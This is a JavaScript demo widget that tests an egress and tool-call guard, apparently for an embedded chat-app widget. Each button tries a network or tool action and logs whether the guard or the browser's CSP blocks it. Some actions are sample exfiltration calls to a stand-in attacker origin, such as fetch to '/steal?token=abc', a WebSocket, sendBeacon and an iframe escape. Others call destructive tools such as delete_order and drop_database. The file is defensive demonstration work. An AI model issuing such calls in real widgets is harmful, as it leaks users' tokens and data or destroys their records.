// The demo widget: each button tries one thing; the panel shows what the guard (and the browser's
// own CSP) decided, with the reason.
const { origins } = DEMO;
const panel = document.querySelector('#panel tbody');

function row(what, decision, reason) {
  const tr = document.createElement('tr');
  tr.className = decision;
  for (const text of [what, decision, reason]) {
    const td = document.createElement('td');
    td.textContent = text;
    tr.append(td);
  }
  panel.prepend(tr);
}

document.addEventListener('widget-guard:violation', (event) => row(`guard: ${event.detail.sink}`, 'blocked', event.detail.reason));
document.addEventListener('securitypolicyviolation', (event) => row(`browser CSP: ${event.effectiveDirective}`, 'blocked', `the browser refused ${event.blockedURI}`));

async function attempt(what, run) {
  try {
    const value = await run();
    row(what, 'allowed', typeof value === 'string' ? value : JSON.stringify(value) ?? 'ok');
  } catch (error) {
    row(what, 'refused', `${error.name}: ${error.message}`);
  }
}

const actions = {
  'fetch-allowed': () => attempt('fetch /v1/items', () => fetch(`${origins.api}/v1/items?page=1`).then((r) => r.json())),
  'fetch-unlisted': () => attempt('fetch unlisted origin', () => fetch(`${origins.attacker}/steal?token=abc`)),
  'fetch-path': () => attempt('fetch wrong path', () => fetch(`${origins.api}/admin/users`)),
  'fetch-method': () => attempt('fetch wrong method', () => fetch(`${origins.api}/v1/items`, { method: 'DELETE' })),
  websocket: () => attempt('WebSocket', () => new WebSocket(origins.attacker.replace('http', 'ws') + '/socket')),
  beacon: () => attempt('sendBeacon', () => (navigator.sendBeacon(`${origins.attacker}/beacon`, 'data') ? 'sent' : 'refused (false)')),
  redirect: () => attempt('fetch that redirects', () => fetch(`${origins.api}/v1/redirect`)),
  // Sandboxed without allow-same-origin, the new frame gets its own opaque origin and the browser
  // refuses the access; in a same-origin frame, the guard guards the new realm instead.
  'realm-escape': () =>
    attempt('fetch from a new iframe', () => {
      const frame = document.createElement('iframe');
      frame.hidden = true;
      document.body.append(frame);
      return frame.contentWindow.fetch(`${origins.attacker}/steal`);
    }),
  alert: () => attempt('alert', () => String(alert('hello'))),
  confirm: () => attempt('confirm', () => String(confirm('sure?'))),
  prompt: () => attempt('prompt', () => String(prompt('name?'))),
  clipboard: () => attempt('clipboard', () => navigator.clipboard.writeText('copied')),
  'tool-search': () => attempt('callTool search_items', () => window.openai.callTool('search_items', { q: 'mug' })),
  'tool-destructive': () => attempt('callTool delete_order', () => window.openai.callTool('delete_order', { id: 'ORD-2024-000123' })),
  'tool-unlisted': () => attempt('callTool drop_database', () => window.openai.callTool('drop_database', {})),
  image: () => {
    new Image().src = `${origins.attacker}/pixel.png`;
    row('image', 'requested', "markup loads are not the guard's: the browser's CSP decides");
  },
};

document.getElementById('actions').addEventListener('click', (event) => {
  const action = event.target.closest('button')?.dataset.action;
  if (action) actions[action]();
});

function showProps() {
  const output = window.openai.toolOutput;
  document.getElementById('props-view').textContent = output ? JSON.stringify(output, null, 2) : '(waiting for the host)';
}
window.addEventListener('openai:set_globals', showProps);
guardReady.then(() => {
  showProps();
  parent.postMessage({ type: 'ready' }, '*');
  row('widget-guard', 'ready', 'every sink is guarded');
});
